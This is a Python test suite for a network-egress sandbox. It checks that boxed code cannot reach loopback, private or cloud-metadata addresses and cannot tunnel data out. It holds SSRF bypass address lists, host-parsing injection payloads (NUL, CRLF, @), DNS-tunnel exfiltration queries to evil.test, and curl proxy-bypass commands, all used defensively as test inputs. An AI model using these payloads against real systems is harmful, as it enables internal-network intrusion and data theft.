"""Where a box may not go, by whatever name or number it asks, and what it cannot say to a resolver.

Sockets of other kinds (raw, vsock, io_uring, abstract) are tried in test_network.py.
"""

from __future__ import annotations

import re
from ipaddress import ip_address

import pytest
from egressworld import BOXES, EMBEDDING, new_world

from world.internet import OTHER, UDP_PORT, UPSTREAM

pytestmark = pytest.mark.root

# What lies behind these is this host's own, its neighbours' or a cloud's, however it is written.
INNER = {
    "127.0.0.1": "loopback",
    "127.9.9.9": "loopback",
    "0.0.0.0": "unspecified",
    "10.9.9.9": "private",
    "169.254.169.254": "metadata",
    "100.100.100.200": "metadata",
    "198.18.0.1": "benchmarking",
    "192.168.1.1": "private",
    "224.0.0.1": "multicast",
    "255.255.255.255": "broadcast",
    "loop.test": "loopback",
    "inner.test": "private",
    "metadata.test": "metadata",
    "both.test": "private",
    "synthetic.test": "benchmarking",
    "localhost": "loopback",
}
INNER_6 = {
    "::1": "loopback",
    "::": "unspecified",
    "::ffff:127.0.0.1": "loopback",
    "::ffff:7f00:1": "loopback",
    "::127.0.0.1": "loopback",
    "::ffff:10.9.9.9": "private",
    "::ffff:169.254.169.254": "metadata",
    "64:ff9b::127.0.0.1": "loopback",
    "64:ff9b::a9fe:a9fe": "metadata",
    "64:ff9b:1::7f00:1": "loopback",
    "2002:7f00:1::": "loopback",
    "2002:a09:909::1": "private",
    "2001:0:a09:909::f4ff:fffe": "private",
    "2001:0:b00:1::f5f6:f6f6": "private",
    "fd00:ec2::254": "metadata",
    "fe80::1": "link-local",
    "fd00::1": "private",
}
# inet_aton(3) and browsers read these as 127.0.0.1 or 10.9.9.9.
NUMBERS = (
    "0x7f.0.0.1",
    "0x7f000001",
    "2130706433",
    "017700000001",
    "0177.0.0.1",
    "127.1",
    "127.0.1",
    "0",
    "10.592137",
    "0xa.9.0x909",
    "012.011.011.011",
    "127.0.0.1.",
)
# More than one reading: who cuts at NUL, at a line's end, at @ or # sees another host each.
TWISTED = (
    b"evil.test\0.allowed.test",
    b"allowed.test\0.evil.test",
    b"evil.test\r\n.allowed.test",
    b"allowed.test\r\nHost: evil.test",
    b"evil.test\n.allowed.test",
    b"evil.test .allowed.test",
    b"evil.test\t.allowed.test",
    b"evil.test/.allowed.test",
    b"evil.test?.allowed.test",
    b"evil.test#.allowed.test",
    b"evil.test%00.allowed.test",
    b"evil.test%2f.allowed.test",
    b"evil.test\\.allowed.test",
    b"allowed.test@evil.test",
    b"evil.test:80@x.allowed.test",
    b"evil.test:80.allowed.test",
    b"[evil.test].allowed.test",
    b"[allowed.test]",
    b"evil.test..allowed.test",
    b".allowed.test",
    b"*.allowed.test",
    b"allowed.test..",
    b"evil.test\xe3\x80\x82.allowed.test",
    b"\xef\xbd\x81llowed.test",
    b"-.allowed.test",
    b"",
    b"a" * 64 + b".allowed.test",
    b"a." * 120 + b".allowed.test",
)

TARGETS = r"""
@attempt
def works():
    return [
        connect("allowed.test:80", b"GET /connect HTTP/1.1\r\nHost: allowed.test\r\nConnection: close\r\n\r\n")[:12],
        absolute("allowed.test")[:12],
        socks("allowed.test", 80, b"GET /socks HTTP/1.1\r\nHost: allowed.test\r\nConnection: close\r\n\r\n")[:7],
        say(("allowed.test", 80), b"GET /plain HTTP/1.1\r\nHost: allowed.test\r\nConnection: close\r\n\r\n")[:12],
    ]
REQUEST = b"GET /inner HTTP/1.1\r\nHost: allowed.test\r\nConnection: close\r\n\r\n"
def every_way(host):
    bare = f"[{host}]" if ":" in host else host
    found = [connect(f"{bare}:80", REQUEST), absolute(bare), socks(host, 80, REQUEST)]
    if ":" in host:
        found.append(socks(socket.inet_pton(socket.AF_INET6, host), 80, REQUEST, kind=4))
    elif host.replace(".", "").isdigit() and host.count(".") == 3 and host[-1] != ".":
        found.append(socks(socket.inet_aton(host), 80, REQUEST, kind=1))
    return [one[:12] for one in found]
@attempt
def inner(): return {host: every_way(host) for host in GIVEN["inner"]}
@attempt
def numbers(): return {host: every_way(host) for host in GIVEN["numbers"]}
def by_itself(host):
    try:
        return say((host, 80), REQUEST, enough=b"\r\n\r\n")[:12]
    except OSError as error:
        return errno.errorcode.get(error.errno, "not resolved")
@attempt
def transparent(): return {host: by_itself(host) for host in GIVEN["transparent"]}
"""
DIRECT = r"""
REQUEST = b"GET /inner HTTP/1.1\r\nHost: x.test\r\nConnection: close\r\n\r\n"
@attempt
def inner():
    found = {}
    for host in GIVEN["inner"]:
        try:
            found[host] = say((host, 80), REQUEST, enough=b"\r\n\r\n")[:12]
        except OSError:
            found[host] = ""
    return found
"""


@pytest.fixture(scope="module")
def world(human, tmp_path_factory):
    with new_world(human, tmp_path_factory.mktemp("internet")) as made:
        yield made


@pytest.fixture(scope="module")
def box(request):
    return request.param


in_boxes = pytest.mark.parametrize("box", BOXES)
# With every name allowed by name, and with everything open: only the address is left to refuse.
NAMES = [host for host in INNER if host.endswith(".test")]
LEVELS = {
    "filtered": [word for host in ("allowed.test", *NAMES) for word in ("--allow", host)],
    "open": ["--allow-network"],
}


@pytest.mark.parametrize("level", LEVELS)
@in_boxes
def test_no_inner_address_is_reached_however_it_is_written(world, box, level):
    hosts = [*INNER, *INNER_6]
    transparent = [*NAMES, "10.9.9.9", "169.254.169.254", "192.168.1.1", "198.18.77.77"]
    given = {"inner": hosts, "numbers": NUMBERS, "transparent": transparent}
    tried = world.inside(box, TARGETS, *LEVELS[level], given=given)
    assert tried.got["works"] == ["HTTP/1.1 200", "HTTP/1.1 200", "granted", "HTTP/1.1 200"]
    assert {each["path"] for each in tried.asked} == {"/connect", "/absolute", "/socks", "/plain"}
    for host, answers in {**tried.got["inner"], **tried.got["numbers"]}.items():
        assert set(answers) <= {"HTTP/1.1 403", "HTTP/1.1 400", "refused 2"}, host
    assert set(tried.got["transparent"].values()) == {"HTTP/1.1 403"}
    if level == "open":  # each is refused for what it is, and not for want of a route
        reasons = {
            each["host"]: each["reason"]
            for each in tried.records
            if each["event"] == "open" and each["verdict"] == "deny"
        }
        for host, kind in {**INNER, **INNER_6}.items():
            spelled = str(ip_address(host)) if ":" in host else host
            assert f" {kind} address" in reasons[spelled], host


def test_control_the_human_reaches_what_is_inside(world):
    tried = world.outside(DIRECT, given={"inner": [*INNER, *INNER_6, *NUMBERS]})
    reached = {host for host, said in tried.got["inner"].items() if said == "HTTP/1.1 200"}
    assert reached >= {"127.0.0.1", "10.9.9.9", "169.254.169.254", "loop.test", "inner.test"}
    assert reached >= {"metadata.test", "localhost", "::ffff:127.0.0.1", "0.0.0.0"}
    assert reached >= set(NUMBERS) - {"127.0.0.1."}
    assert reached >= set(EMBEDDING)
    assert set(EMBEDDING) < set(INNER_6)


TURNING = r"""
REQUEST = b"GET /turning HTTP/1.1\r\nHost: %s\r\nConnection: close\r\n\r\n"
def ask(name): return connect(f"{name}:80", REQUEST % name.encode())
@attempt
def turning(): return [ask(GIVEN["turning"])[-250:] for _ in range(3)]
@attempt
def back(): return [ask(GIVEN["back"])[:12] for _ in range(2)]
"""
TURNING_DIRECT = r"""
@attempt
def turning(): return [socket.gethostbyname("turning-none.test") for _ in range(2)]
"""


@in_boxes
def test_a_name_that_turns_is_dialled_where_it_was_checked(world, box):
    given = {"turning": f"turning-{box}.test", "back": f"turning-back-{box}.test"}
    allow = [word for name in given.values() for word in ("--allow", name)]
    tried = world.inside(box, TURNING, *allow, given=given)
    places = [each["at"] for each in tried.asked]
    # Asked once for each connection; what had been checked, and nothing else, is dialled.
    assert places == [f"{UPSTREAM}:80", f"{UPSTREAM}:80"]
    assert [each["query"] for each in tried.heard if each["kind"] == 1] == [
        *[given["turning"]] * 3,
        *[given["back"]] * 2,
    ]
    first, second, third = tried.got["turning"]
    assert first.endswith("}")
    assert "resolves to a loopback address" in second + third
    assert tried.got["back"] == ["HTTP/1.1 403", "HTTP/1.1 200"]


def test_control_a_name_turns_between_two_questions(world):
    assert world.outside(TURNING_DIRECT).got["turning"] == [UPSTREAM, "127.0.0.1"]


SPELLED = r"""
TWISTED = [each.encode("latin-1") for each in GIVEN["twisted"]]
REQUEST = b"GET /twisted HTTP/1.1\r\nHost: evil.test\r\nConnection: close\r\n\r\n"
@attempt
def by_socks(): return [socks(each, 80, REQUEST) for each in TWISTED if len(each) < 256]
@attempt
def by_connect(): return [connect(each + b":80", REQUEST)[:12] for each in TWISTED]
@attempt
def by_absolute(): return [absolute(each)[:12] for each in TWISTED if each != b"allowed.test@evil.test"]
@attempt
def by_resolver():
    found = []
    for each in TWISTED:
        labels = each.split(b".") if len(each) < 64 else [b"a" * 63] * 4
        for one in (labels, [each[:63]], [b"x", *labels]):
            try:
                answer = resolve([label for label in one if label])
            except TimeoutError:
                continue
            if answer["answers"]:
                found.append([each.decode("latin-1"), say((answer["tail"], 80), REQUEST)[:12]])
    return found
"""
CUT = r"""
# What a program in C does with a name that has a NUL in it.
class Info(ctypes.Structure): pass
@attempt
def cut():
    found = ctypes.c_void_p()
    assert libc.getaddrinfo(b"evil.test\0.allowed.test", None, None, ctypes.byref(found)) == 0
    class Address(ctypes.Structure):
        _fields_ = [("flags", ctypes.c_int), ("family", ctypes.c_int), ("kind", ctypes.c_int), ("protocol", ctypes.c_int), ("length", ctypes.c_uint32), ("address", ctypes.c_void_p)]
    first = ctypes.cast(found, ctypes.POINTER(Address)).contents
    return socket.inet_ntoa(ctypes.string_at(first.address + 4, 4))
"""


@in_boxes
def test_a_name_with_two_readings_has_none(world, box):
    given = {"twisted": [each.decode("latin-1") for each in TWISTED]}
    tried = world.inside(
        box, SPELLED, "--allow", "allowed.test", "--allow", "*.allowed.test", given=given
    )
    assert set(tried.got["by_socks"]) == {"refused 1", "refused 2"}
    assert set(tried.got["by_connect"]) == {"HTTP/1.1 400", "HTTP/1.1 403"}
    assert set(tried.got["by_absolute"]) <= {"HTTP/1.1 400", "HTTP/1.1 403"}
    assert tried.got["by_resolver"], tried.said
    assert {said for _, said in tried.got["by_resolver"]} <= {"HTTP/1.1 403", "<reset>"}
    assert tried.asked == []
    # What is left of some, once the resolver has them as labels, is an allowed name in plain words.
    passed = {each["host"] for each in tried.records if each.get("verdict") == "allow"}
    assert all(re.fullmatch(r"([a-z.]+\.)?allowed\.test", host) for host in passed)


def test_control_a_name_is_cut_at_nul(world):
    assert world.outside(CUT).got["cut"] == OTHER


NOTHING_LEAVES = r"""
@attempt
def secret():
    found = {}
    for kind in (1, 28, 16, 65, 255, 12, 252):
        answer = resolve(f"c2VjcmV0.{kind}.tunnel.evil.test", kind, GIVEN["resolver"])
        found[str(kind)] = answer["answers"]
    return found
@attempt
def by_library():
    try:
        return socket.gethostbyname("bGlicmFyeQ.tunnel.evil.test")
    except OSError as error:
        return str(error)
@attempt
def allowed_name(): return resolve("more.allowed.test", 1, GIVEN["resolver"])["code"]
@attempt
def by_stream():
    message = query("c3RyZWFt.tunnel.evil.test")
    return len(say((GIVEN["resolver"], 53), struct.pack("!H", len(message)) + message, seconds=1))
@attempt
def elsewhere():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as asking:
        asking.settimeout(1)
        asking.connect((GIVEN["host"], 53))
        asking.send(query("ZWxzZXdoZXJl.evil.test"))
        return len(asking.recv(4096))
@attempt
def udp():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as asking:
        asking.settimeout(1)
        asking.connect((GIVEN["other"], GIVEN["udp"]))
        asking.send(b"out")
        return asking.recv(100).decode()
@attempt
def ping():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP) as asking:
        asking.settimeout(1)
        asking.connect((GIVEN["other"], 0))
        asking.send(struct.pack("!BBHHH", 8, 0, 0xF7FE, 0, 1))
        return len(asking.recv(100)) > 0
@attempt
def tcp(): return say((GIVEN["other"], 5432), b"out", seconds=1)
@attempt
def tcp6():
    with socket.create_connection(("2001:db8::1", GIVEN["six"]), timeout=1) as asking:
        return asking.recv(10).decode()
"""


def given_to_leave(resolver):
    return {
        "resolver": resolver,
        "host": "127.0.0.53",
        "other": OTHER,
        "udp": UDP_PORT,
        "six": 5432,
    }


def pings(world):
    lines = world.internet.run("cat", "/proc/net/snmp").stdout.splitlines()
    names, values = (line.split() for line in lines if line.startswith("Icmp:"))
    return int(values[names.index("InEchos")])


@in_boxes
def test_nothing_but_the_doors_leads_out(world, box):
    before = pings(world)
    tried = world.inside(box, NOTHING_LEAVES, given=given_to_leave("127.0.0.1"))
    assert tried.heard == []  # no resolver was asked anything, by nobody
    assert tried.asked == []
    assert pings(world) == before
    assert tried.got["secret"] == {
        "1": 1,
        **dict.fromkeys(("28", "16", "65", "255", "12", "252"), 0),
    }
    assert tried.got["by_library"].startswith("198.18.")
    assert tried.got["by_stream"] > 12
    for name in ("elsewhere", "udp", "tcp", "tcp6"):
        assert not (tried.got[name] or "").removesuffix("<reset>"), name
    assert tried.decisions(OTHER) == [("deny", "not on the allow-list")]


def test_control_the_human_reaches_resolver_and_servers(world):
    before = pings(world)
    tried = world.outside(NOTHING_LEAVES, given=given_to_leave("127.0.0.53"))
    names = {each["query"] for each in tried.heard if "query" in each}
    assert {"c2VjcmV0.16.tunnel.evil.test", "bGlicmFyeQ.tunnel.evil.test"} <= names
    assert "ZWxzZXdoZXJl.evil.test" in names
    assert tried.got["udp"] == "out"
    assert tried.got["tcp"].startswith("banner")
    assert tried.got["ping"]
    assert pings(world) == before + 1


TOOLS = r"""
def curl(*words, **variables):
    environment = {**os.environ, **variables}
    ran = subprocess.run(["curl", "-sS", "-m", "5", *words], capture_output=True, text=True, env=environment)
    return ran.stdout + ran.stderr
@attempt
def no_proxy(): return curl("http://evil.test/no-proxy", NO_PROXY="*", no_proxy="*")
@attempt
def option(): return curl("--noproxy", "*", "http://evil.test/no-proxy")
@attempt
def unset():
    return curl("http://evil.test/no-proxy", **{name: "" for name in os.environ if "proxy" in name.lower()})
@attempt
def pinned(): return curl("--noproxy", "*", "--resolve", f"allowed.test:80:{GIVEN['other']}", "http://allowed.test/no-proxy")
@attempt
def other_proxy(): return curl("-x", f"http://{GIVEN['other']}:80", "http://evil.test/no-proxy")
@attempt
def allowed(): return curl("http://allowed.test/works", NO_PROXY="*", no_proxy="*")
"""


@in_boxes
def test_a_tool_that_heeds_no_proxy_gains_nothing(world, box):
    tried = world.inside(box, TOOLS, "--allow", "allowed.test", given={"other": OTHER})
    assert {each["path"] for each in tried.asked} == {"/works"}
    for name in ("no_proxy", "option", "unset"):
        assert tried.got[name].startswith("clsecure: evil.test is blocked: not on the allow-list")
        assert "clsecure net allow evil.test" in tried.got[name]
    for name in ("pinned", "other_proxy"):
        assert tried.got[name].startswith(f"clsecure: {OTHER} is blocked")
    assert '"path": "/works"' in tried.got["allowed"]


def test_control_the_same_tools_reach_it_outside(world):
    tried = world.outside(TOOLS, given={"other": OTHER})
    assert len([each for each in tried.asked if each["path"].endswith("/no-proxy")]) == 5
